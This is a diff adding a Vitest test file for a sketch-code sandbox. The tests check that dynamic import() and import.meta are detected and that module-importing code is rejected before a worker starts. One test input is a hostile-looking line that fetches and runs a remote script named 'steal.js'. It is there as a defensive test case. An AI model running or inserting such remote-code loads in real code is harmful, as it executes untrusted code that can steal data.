@@ -0,0 +1,25 @@
+import { describe, expect, it } from 'vitest';
+import { findModuleAccess, runSketchCode, SandboxError } from './sketchSandbox';
+
+const canvas = { width: 800, height: 600 };
+
+describe('findModuleAccess', () => {
+  it('finds dynamic imports and import.meta anywhere in the code', () => {
+    expect(findModuleAccess("drawText('hi', 10, 10);\nconst load = () => import('https://example.com/x.js');"))
+      .toMatchObject({ line: 2, column: 20, message: expect.stringContaining('import()') });
+    expect(findModuleAccess("if (true) { drawText(String(import.meta.url), 10, 10); }"))
+      .toMatchObject({ line: 1, message: expect.stringContaining('import.meta') });
+  });
+
+  it('lets ordinary step code through', () => {
+    expect(findModuleAccess("const important = 1;\nrc.rectangle(10, 10, 100, 50, { fill: 'primary' });")).toBeNull();
+  });
+});
+
+describe('runSketchCode', () => {
+  it('refuses code that imports modules before starting a worker', async () => {
+    const run = runSketchCode("import('https://example.com/steal.js').then(m => m.run());", canvas);
+    await expect(run).rejects.toBeInstanceOf(SandboxError);
+    await expect(run).rejects.toMatchObject({ kind: 'syntax', line: 1, column: 1 });
+  });
+});